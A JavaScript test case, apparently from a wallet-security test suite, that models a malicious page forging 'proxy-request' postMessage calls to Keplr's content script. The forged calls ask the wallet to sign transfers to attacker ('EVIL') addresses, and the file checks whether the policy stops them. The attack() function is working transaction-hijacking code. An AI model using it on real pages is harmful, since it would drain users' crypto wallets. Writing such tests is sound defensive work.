// G07: the page speaks to Keplr's content script itself, which looks at nothing but the type: a payment, and a message of a module that
// nobody knows, whose payee is no account of the chain.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G07',
  title: 'messages in the shape of Keplr',
  source: 'chainapsis/keplr-wallet',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`, `cosmos:cosmoshub-4:${a.others.cosmos.GOOD}`] }),
  page: { wallet: 'none', wallets: ['keplr'] },

  async attack(a) {
    const value = {
      from_address: a.users.cosmos,
      to_address: a.others.cosmos.EVIL,
      amount: [{ denom: 'uatom', amount: '5' }],
    };
    const doc = {
      chain_id: 'cosmoshub-4',
      account_number: '1',
      sequence: '1',
      fee: { gas: '1', amount: [] },
      memo: '',
    };
    const msgs = [{ type: 'cosmos-sdk/MsgSend', value }];
    const args = ['cosmoshub-4', a.users.cosmos, { ...doc, msgs }];
    window.postMessage({ type: 'proxy-request', id: '7', method: 'signAmino', args }, location.origin);
    postMessage({ type: 'proxy-request', id: '8', method: 'signAmino', args }, { targetOrigin: '*' });
    const amount = { denom: 'inj', amount: '5' };
    const foreign = { destination_subaccount_id: a.EVIL + '0'.repeat(24), amount };
    args[2] = { ...doc, msgs: [{ type: 'exchange/MsgExternalTransfer', value: foreign }] };
    postMessage({ type: 'proxy-request', id: '9', method: 'signAmino', args }, location.origin);
    const sent = window.keplr.signAmino('cosmoshub-4', a.users.cosmos, args[2]).catch((error) => error.code);
    await Promise.race([sent, new Promise((resolve) => setTimeout(resolve, 500))]);
    await new Promise((resolve) => setTimeout(resolve, 200));
  },

  async action(a) {
    const value = {
      from_address: a.users.cosmos,
      to_address: a.others.cosmos.GOOD,
      amount: [{ denom: 'uatom', amount: '5' }],
    };
    const doc = {
      chain_id: 'cosmoshub-4',
      account_number: '1',
      sequence: '1',
      fee: { gas: '1', amount: [] },
      memo: '',
    };
    const msgs = [{ type: 'cosmos-sdk/MsgSend', value }];
    await window.keplr.signAmino('cosmoshub-4', a.users.cosmos, { ...doc, msgs });
  },
  stolen: ({ wallet, a }) => reachedWallet(wallet, a.others.cosmos.EVIL) || reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.others.cosmos.GOOD),
  violation: (a) => ({ surface: 'postmessage', account: a.others.cosmos.EVIL }),
};
